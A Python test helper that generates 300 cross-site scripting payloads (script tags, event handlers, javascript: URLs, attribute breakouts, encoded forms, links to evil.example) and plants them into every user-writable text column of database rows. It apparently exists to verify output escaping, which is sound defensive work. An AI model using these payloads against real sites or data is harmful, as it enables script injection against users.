"""Three hundred ways to make a page run a script, and the planting of them in everything people can write."""

import re
from collections.abc import Iterator
from itertools import count, cycle, product

from sqlalchemy import String, select
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Mapper

from butler.kit.database import Base, db

_ALONE = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src=data:,{run}></script>", "<script/x>{run}</script>",
    "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<img src=x onerror={run}>", "<img src=x onerror={run}//", "<img/src='x'/onerror={run}>", "<IMG SRC=x ONERROR={run}>",
    "<body onload={run}>", "<input autofocus onfocus={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}>",
    "<iframe src=javascript:{run}>", "<iframe srcdoc='<script>parent.{run}</script>'>", "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>", "<a href=javascript:{run} autofocus>x</a>", "<form action=javascript:{run}><button>x",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{{background:url(//evil.example)}}</style>", "<style onload={run}></style>", "<marquee onstart={run}>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<select><option><script>{run}</script>", "<keygen autofocus onfocus={run}>", "<isindex type=image src=x onerror={run}>",
    "<table background=javascript:{run}>", "<div style='x:expression({run})'>", "<audio src onloadstart={run}>",
    "<p onpointerenter={run} style='position:fixed;inset:0'>", "<button popovertarget=x>x</button><b popover id=x onbeforetoggle={run}>",
    "javascript:{run}", "data:text/html,<script>{run}</script>", "[x](javascript:{run})", "![x](x\"onerror=\"{run})",
    "{{{{{run}}}}}", "${{{run}}}", "{{%{run}%}}", "&lt;script&gt;{run}&lt;/script&gt;", "%3Cscript%3E{run}%3C/script%3E",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "＜script＞{run}＜/script＞", "<<script>{run}//<</script>",
)  # fmt: skip
_OUT_OF = ("", '">', "'>", "</title>", "</textarea>", "</script>")
_INSIDE = (
    '" onmouseover={run} x="',
    "' autofocus onfocus={run} x='",
    "` onerror={run} `",
    '" style=animation-name:x onanimationstart={run} "',
)


def payloads() -> list[str]:
    """Each calls `xss` with its own number."""
    forms = [*(f"{out}{alone}" for out, alone in product(_OUT_OF, _ALONE)), *_INSIDE]
    return [form.format(run=f"xss({number})") for number, form in zip(count(1), forms, strict=False)][:300]


def texts() -> list[str]:
    """The payloads, ten to a text."""
    each = payloads()
    return [" ".join(each[place : place + 10]) for place in range(0, len(each), 10)]


_NOT_WRITTEN = re.compile(
    r"(^|_)(code|codes|number|token|path|kind|state|stage|status|hash|index|role|level|mode|urgency|outcome|face|username|phone|step|unit|"
    r"version|revision|topic|dedupe_id|key|type|district|channel|field|fields|reason|why_code|email|colou?r|secret|relation|signed_how|"
    r"fingerprint|method|route|event|purpose|locale|post|media|suffix|algorithm|cursor|day|weekday)$"
)
"""Columns that hold words of ours, codes or secrets: nobody types into them."""
_LEFT_ALONE = frozenset(
    {"alembic_version", "outbox", "idempotency_keys", "sign_ins", "one_time_codes", "catalogue_revisions"}
)


def plant() -> tuple[int, int]:
    """Put them into every text of every row that people write, in the present unit of work; (columns, places)."""
    spread, columns, places = cycle(texts()), 0, 0
    for mapper in sorted(Base.registry.mappers, key=lambda one: one.class_.__name__):
        if mapper.local_table.name in _LEFT_ALONE or mapper.local_table.info.get("append_only"):
            continue
        rows = db.session.scalars(select(mapper.class_).limit(400)).all()
        for name in _written(mapper):
            if not rows or not _takes(rows[0], name, next(spread)):
                continue
            columns += 1
            for row in rows:
                if getattr(row, name):
                    setattr(row, name, f"{getattr(row, name)} {next(spread)}")
                    places += 1
            db.session.flush()
    return columns, places


def _written(mapper: Mapper[Base]) -> Iterator[str]:
    for column in mapper.local_table.columns:
        is_text = isinstance(column.type, String) or type(column.type).__name__ == "Sealed"
        if is_text and not column.foreign_keys and not column.unique and not _NOT_WRITTEN.search(column.name):
            yield mapper.get_property_by_column(column).key


def _takes(row: Base, name: str, text: str) -> bool:
    """Whether the database lets such a text into the column at all; a word list or a form of its own refuses it."""
    before = getattr(row, name)
    if before is not None and not isinstance(before, str):
        return False
    try:
        with db.session.begin_nested():
            setattr(row, name, text)
    except DBAPIError:
        db.session.refresh(row)
        return False
    setattr(row, name, before)
    db.session.flush()
    return True
